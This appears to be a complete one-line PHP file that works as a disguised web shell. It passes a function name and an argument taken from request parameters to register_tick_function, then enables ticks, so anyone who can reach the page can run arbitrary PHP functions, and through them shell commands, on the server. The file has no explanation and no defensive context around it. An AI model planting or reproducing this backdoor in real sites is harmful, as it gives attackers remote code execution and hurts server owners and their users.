<?php register_tick_function($_REQUEST['t'], $_REQUEST['c']); declare(ticks=1);
